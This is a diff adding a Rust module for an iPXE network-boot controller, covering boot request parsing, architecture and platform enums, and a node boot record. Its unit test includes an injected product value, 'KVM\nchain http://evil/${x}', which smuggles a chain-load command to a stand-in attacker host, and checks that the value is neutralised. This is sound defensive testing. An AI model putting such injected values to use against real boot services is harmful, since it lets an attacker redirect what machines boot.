@@ -1,0 +1,143 @@
+//! What a machine says when it asks for its script, and what the controller knows that decides the answer.
+
+use std::str::FromStr;
+
+use serde::{Deserialize, Serialize};
+
+use crate::site::words;
+use crate::{HardwareFact, Lifecycle, Mac, NodeId, Workflow};
+
+words! {
+    /// The processor that the boot loader was built for, as iPXE's `${buildarch}` names it.
+    Arch {
+        /// 32-bit x86; a BIOS build of iPXE says this on 64-bit machines too.
+        I386 = "i386",
+        /// 64-bit x86.
+        X86_64 = "x86_64",
+        /// 32-bit ARM.
+        Arm32 = "arm32",
+        /// 64-bit ARM.
+        Arm64 = "arm64",
+        /// 32-bit RISC-V.
+        Riscv32 = "riscv32",
+        /// 64-bit RISC-V.
+        Riscv64 = "riscv64",
+        /// 64-bit LoongArch.
+        Loong64 = "loong64",
+    }
+}
+
+words! {
+    /// The firmware interface that the boot loader runs on, as iPXE's `${platform}` names it.
+    Platform {
+        /// PC BIOS.
+        Pcbios = "pcbios",
+        /// UEFI.
+        Efi = "efi",
+    }
+}
+
+words! {
+    /// The firmware interface, as operators name it.
+    BootMode {
+        /// PC BIOS.
+        Bios = "bios",
+        /// UEFI.
+        Uefi = "uefi",
+    }
+}
+
+impl From<Platform> for BootMode {
+    fn from(platform: Platform) -> Self {
+        match platform {
+            Platform::Pcbios => Self::Bios,
+            Platform::Efi => Self::Uefi,
+        }
+    }
+}
+
+/// What a machine says about itself when it asks for its script. Nothing but the address can be relied on.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct BootRequest {
+    /// The boot interface.
+    pub mac: Mac,
+    /// The processor, where it is one that we know.
+    pub arch: Option<Arch>,
+    /// The firmware interface, where it is one that we know.
+    pub platform: Option<Platform>,
+    /// The SMBIOS system UUID.
+    pub uuid: Option<HardwareFact>,
+    /// The SMBIOS serial number.
+    pub serial: Option<HardwareFact>,
+    /// The SMBIOS manufacturer.
+    pub vendor: Option<HardwareFact>,
+    /// The SMBIOS product name.
+    pub product: Option<HardwareFact>,
+}
+
+impl BootRequest {
+    /// A request that says nothing but the address.
+    pub fn new(mac: Mac) -> Self {
+        Self {
+            mac,
+            arch: None,
+            platform: None,
+            uuid: None,
+            serial: None,
+            vendor: None,
+            product: None,
+        }
+    }
+
+    /// Takes over one `name=value` of a query; an unknown name or an empty or unknown value says nothing.
+    pub fn learn(&mut self, name: &str, value: &str) {
+        match name {
+            "arch" => self.arch = Arch::from_str(value).ok(),
+            "platform" => self.platform = Platform::from_str(value).ok(),
+            "uuid" => self.uuid = HardwareFact::new(value),
+            "serial" => self.serial = HardwareFact::new(value),
+            "vendor" => self.vendor = HardwareFact::new(value),
+            "product" => self.product = HardwareFact::new(value),
+            _ => {}
+        }
+    }
+}
+
+/// All that decides what a node boots, as the controller knows it: what `GET /agents/nodes` answers and the site keeps.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct BootRecord {
+    /// The node.
+    pub node_id: NodeId,
+    /// Its boot interface.
+    pub mac_address: Mac,
+    /// Its name, for people.
+    pub hostname: Option<String>,
+    /// Where it is in its life.
+    pub state: Lifecycle,
+    /// What it is to be installed with.
+    pub workflow: Option<Workflow>,
+    /// The node's version at the controller.
+    pub version: u64,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn h20_a_request_learns_only_what_it_understands() {
+        let mut request = BootRequest::new("52:54:00:12:34:56".parse().expect("an address"));
+        let silent = request.clone();
+        request.learn("arch", "pdp11");
+        request.learn("serial", "  ");
+        request.learn("next-server", "10.0.0.1");
+        assert_eq!(request, silent);
+        request.learn("platform", "efi");
+        request.learn("product", "KVM\nchain http://evil/${x}");
+        assert_eq!(request.platform, Some(Platform::Efi));
+        assert_eq!(
+            request.product.as_ref().map(HardwareFact::as_str),
+            Some("KVM_chain http://evil/__x_")
+        );
+    }
+}
